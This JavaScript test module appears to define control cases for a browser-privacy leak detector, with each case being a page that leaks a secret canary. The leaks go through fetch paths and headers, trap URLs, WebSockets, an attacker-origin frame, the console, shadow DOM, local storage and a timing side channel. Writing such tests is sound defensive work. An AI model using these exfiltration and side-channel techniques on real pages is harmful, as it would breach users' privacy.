// Pages that do leak: what notices attacks must notice each of these, in the same way.

/** @typedef {import('./case.mjs').Attack} Attack */

const CANARY = `const canary = globalThis.told;`;

/** @param {string} name @param {string} tries @param {readonly string[]} noticedBy @param {string} page */
const control = (name, tries, noticedBy, page) => ({ name: `control-${name}`, tries, noticedBy, page: `${CANARY}\n${page}` });

/** Their pages are told the canary, which attacks are not. @type {readonly Attack[]} */
export const CONTROLS = [
  control('report', 'The page says what it was told.', ['report', 'network'], `return canary;`),
  control(
    'report-nested',
    'The page says it in a member of a getter of a prototype of an error.',
    ['report', 'network'],
    `
    class Odd extends Error { get inner() { return { deep: { deeper: canary } }; } }
    return new Odd('odd');`,
  ),
  control('report-reversed', 'The page says it backwards.', ['report', 'network'], `return [...canary].reverse().join('');`),
  control('report-hex', 'The page says its bytes.', ['report', 'network'], `return new TextEncoder().encode(canary);`),
  control(
    'report-utf-16',
    'The page says its code units.',
    ['report', 'network'],
    `return new Uint16Array([...canary].map((one) => one.charCodeAt(0)));`,
  ),
  control(
    'report-base64',
    'The page says it in base64, behind something else.',
    ['report', 'network'],
    `return btoa('ab' + canary + 'c');`,
  ),
  control(
    'report-codes',
    'The page says it in numbers.',
    ['report', 'network'],
    `return [...canary].map((one) => one.charCodeAt(0)).join();`,
  ),
  control('server', 'The page asks its server for it.', ['server', 'network'], `kit.got('asked'); await fetch('/blank.html?' + canary);`),
  control(
    'header',
    'The page sends it in a header.',
    ['server', 'network'],
    `kit.got('asked'); await fetch('/blank.html', { headers: { 'X-Canary': canary } });`,
  ),
  control('trap', 'The page calls the trap.', ['trap'], `kit.got('called'); await fetch(stage.trap + 'called').catch(() => {});`),
  control(
    'trap-socket',
    'The page calls the trap by WebSocket.',
    ['trap'],
    `
    kit.got('called');
    const socket = new WebSocket(stage.trap.replace('http', 'ws') + 'called');
    await new Promise((resolve) => { socket.onerror = socket.onclose = resolve; });`,
  ),
  control(
    'network',
    'The page calls a port where nobody is, and says it in the path.',
    ['console', 'document', 'network'],
    `
    kit.got('called'); await fetch('http://nobody.localhost:65533/' + canary).catch(() => {});`,
  ),
  control('console', 'The page shows it in the console.', ['console'], `kit.got('shown'); console.log({ canary });`),
  control(
    'console-frame',
    'A frame of another site shows it in the console.',
    ['console', 'document', 'network'],
    `
    kit.got('shown'); await kit.frame({ src: stage.attacker + '/show.html#' + canary });`,
  ),
  control(
    'document',
    'The page has it in a closed shadow tree.',
    ['document'],
    `
    kit.got('shown');
    document.body.append(document.createElement('div'));
    document.body.lastChild.attachShadow({ mode: 'closed' }).append(canary);`,
  ),
  control('location', 'The page has it in its URL.', ['document'], `kit.got('shown'); location.hash = canary;`),
  control('storage', 'The page keeps it in its local storage.', ['document'], `kit.got('kept'); localStorage.setItem('kept', canary);`),
  control(
    'store-changed',
    'The page changes what is stored.',
    ['store'],
    `kit.got('changed'); await sharedStorage.set('canary', 'changed');`,
  ),
  control('store-added', 'The page stores one thing more.', ['store'], `kit.got('added'); await sharedStorage.set('added', 'v');`),
  {
    ...control(
      'guess',
      'The page guesses each bit right.',
      ['guess'],
      `kit.got('guessing'); return [...canary].map((letter) => letter.charCodeAt(0) & 1).join('');`,
    ),
    oracle: /** @type {const} */ ('worklet'),
  },
  {
    ...control(
      'guess-by-time',
      'The page measures what takes longer where a bit is 1.',
      ['guess'],
      `
      kit.got('guessing'); return kit.split(await kit.times((index) => new Promise((resolve) => setTimeout(resolve, canary.charCodeAt(index) & 1 ? 40 : 0))));`,
    ),
    oracle: /** @type {const} */ ('worklet'),
  },
  {
    isForeign: true,
    ...control('worklet-console', 'A worklet logs it.', ['worklet console'], `await kit.run();`),
    module: `register('attack', class { async run() { console.log(await sharedStorage.get('canary')); tried(1); } });`,
  },
].map((one) => ({ ...one, serve: { '/show.html': `<script>console.log(location.hash)</script>` } }));
